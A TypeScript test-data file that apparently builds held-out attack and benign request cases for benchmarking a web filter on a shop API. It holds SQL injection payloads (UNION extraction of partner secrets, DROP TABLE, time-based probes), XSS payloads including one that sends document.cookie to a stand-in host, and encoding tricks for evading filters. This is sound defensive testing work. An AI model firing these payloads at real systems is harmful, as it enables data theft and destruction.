import type { BenchCase, BenchRequest } from "./requests.ts";
import { inBody, inCookie, inHeader, inQuery } from "./requests.ts";

/**
 * Cases of our own, written down before a rule was changed for a figure and never used to choose one. The attacks are the forms that
 * cheat sheets teach (PortSwigger's of SQL injection and of XSS, OWASP's on evading filters), aimed at this API's own places.
 */

const SQL: readonly string[] = [
  "' OR 1=1 -- ",
  "Mug' AND '1'='1",
  "x' UNION SELECT NULL,NULL,NULL,NULL -- ",
  "-1' UNION ALL SELECT 1,email,api_secret,4 FROM partners#",
  "1; DROP TABLE orders",
  "1' AND SLEEP(5) AND '1'='1",
  "1' AND (SELECT COUNT(*) FROM information_schema.tables) > 0 -- ",
  "Mug' ORDER BY 5 -- ",
  "Mug' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT user()))) -- ",
  "Mug'/**/UnIoN/**/SeLeCt/**/1,2,3,4-- ",
  "Mug' UNION/*!50000SELECT*/ 1,2,3,4 -- ",
  "admin' -- ",
  "' OR 'a' LIKE 'a",
  "1' OR BENCHMARK(5000000, MD5('a')) -- ",
  "'; WAITFOR DELAY '0:0:5' -- ",
  "1 OR 1=1",
];

const SCRIPT: readonly string[] = [
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  "<body onpageshow=alert(1)>",
  "<a href=javascript:alert(1)>gift</a>",
  "<details open ontoggle=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<input autofocus onfocus="alert(1)">',
  '<video><source onerror="alert(1)"></video>',
  "<ScRiPt>fetch('//x.example/'+document.cookie)</sCrIpT>",
  "<form action=javascript:alert(1)><button>go</button></form>",
  "<object data=javascript:alert(1)></object>",
];

/** Ways that get a payload past who compares what was sent. */
const DISGUISES: readonly [name: string, disguise: (text: string) => string][] = [
  ["plain", encodeURIComponent],
  ["every character percent-encoded", percentEncoded],
  ["percent-encoded twice", (text) => encodeURIComponent(encodeURIComponent(text))],
  ["as numeric entities", (text) => encodeURIComponent(text.replace(/[<>'"]/g, (it) => `&#${it.charCodeAt(0)};`))],
  ["as %u codes", (text) => text.replace(/[^a-z0-9]/gi, (it) => `%u${it.charCodeAt(0).toString(16).padStart(4, "0")}`)],
];

function percentEncoded(text: string): string {
  return [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
}

function unicodeEscaped(text: string): string {
  return text.replace(/[<>'"=]/g, (it) => `\\u${it.charCodeAt(0).toString(16).padStart(4, "0")}`);
}

/** Attacks: each text in the query in every disguise, and in a body, a header and a cookie. */
export function heldOutAttacks(): BenchCase[] {
  return [
    ...SQL.map((text, index) => ({ kind: "sql", text, index })),
    ...SCRIPT.map((text, index) => ({ kind: "script", text, index })),
  ].flatMap(({ kind, text, index }): BenchCase[] => {
    const one = (where: string, request: BenchRequest): BenchCase => ({
      set: "held-out",
      id: `${kind}-${index + 1} in ${where}`,
      attack: true,
      request,
    });
    return [
      ...DISGUISES.map(([name, disguise]) => one(`the query, ${name}`, inQuery(disguise(text)))),
      one("a JSON body", inBody(JSON.stringify({ lines: [{ sku: "MUG-1", quantity: 1 }], note: text }))),
      one("a JSON body, escaped", inBody(`{"lines":[],"note":"${unicodeEscaped(text.replaceAll('"', "'"))}"}`)),
      one("a header", inHeader("x-request-source", text)),
      one("a cookie", inCookie(`greeting=${encodeURIComponent(text)}`)),
    ];
  });
}

/** What people write who look for something, and what looks a little like SQL or markup. */
const WORDS: readonly string[] = [
  "mug",
  "O'Brien's mug",
  "tee-shirt, black & white",
  "caps or hats",
  "select a size",
  "union jack mug",
  "drop-shoulder tee",
  "insert for cap",
  "size > 42",
  "5 < 6",
  "100% cotton",
  "tee (organic)",
  'the "classic" mug',
  "L'Oréal",
  "Müller & Söhne",
  "and so on...",
  "R&D's mugs; blue ones",
  "order by friday",
  "table where we sit",
  "mug -- the large one",
  "#1 dad",
  "C# mug",
  "<3",
  "I <3 tees",
  "a=b",
  "50/50 poly-cotton",
  "cup * 2",
  "either/or",
  "it's a mug, isn't it?",
  "Straße 12, 2. OG",
  "日本語のマグカップ",
  "кружка",
  "mug\u2019s handle",
  "tee + cap",
  "1 or 2 mugs",
  "update my cart",
  "script font tee",
  "image of a cat",
  "on sale = true?",
  "who's in? (like 'us')",
];

const AGENTS: readonly string[] = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:133.0) Gecko/20100101 Firefox/133.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148",
  "python-requests/2.32.3",
  "okhttp/4.12.0",
  "Apache-HttpClient/5.3 (Java/17.0.9)",
  "curl/8.5.0",
  "aws-sdk-js/3.600.0 ua/2.0 os/linux#6.5 lang/js md/nodejs#20.11.1",
];

const COOKIES: readonly string[] = [
  "__Host-session=eyJraWQiOiJhYmMiLCJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl-_x",
  "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000001",
  "consent=%7B%22ads%22%3Afalse%2C%22stats%22%3Atrue%7D; theme=dark",
  "lang=de-DE; cart=MUG-1%3A2%7CTEE-1%3A1",
];

/** Requests of partners that must pass: searches, orders, receipts, sign-ins, with the headers of real clients. */
export function heldOutBenign(): BenchCase[] {
  const benign = (id: string, request: BenchRequest): BenchCase => ({ set: "held-out", id, attack: false, request });
  const order = (note: string) => JSON.stringify({ lines: [{ sku: "MUG-1", quantity: 2 }], note });
  const withAgent = (request: BenchRequest, index: number): BenchRequest => ({
    ...request,
    headers: [
      ...request.headers.filter(([name]) => name !== "User-Agent"),
      ["User-Agent", AGENTS[index % AGENTS.length] ?? ""],
      ["Referer", "https://shop.partner.example/catalogue?page=2&sort=price"],
    ],
  });
  return [
    ...WORDS.map((text, index) => benign(`search "${text}"`, withAgent(inQuery(encodeURIComponent(text)), index))),
    ...WORDS.map((text, index) => benign(`order with note "${text}"`, withAgent(inBody(order(text)), index))),
    ...COOKIES.map((cookie, index) => benign(`cookie ${index + 1}`, withAgent(inCookie(cookie), index))),
    benign(
      "sign in",
      inBody(JSON.stringify({ username: "o'hara@partner.example", password: "c0rrect-H0rse;battery=1" })),
    ),
    benign("a cart as text", inBody(JSON.stringify({ cart: '{"version":1,"lines":[{"sku":"CAP-1","quantity":3}]}' }))),
    benign("an idempotency key", inHeader("Idempotency-Key", "7d1e9c1a-55f2-4b7e-9a31-0c7f6b2f6a10")),
    benign("a trace", inHeader("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01")),
  ];
}
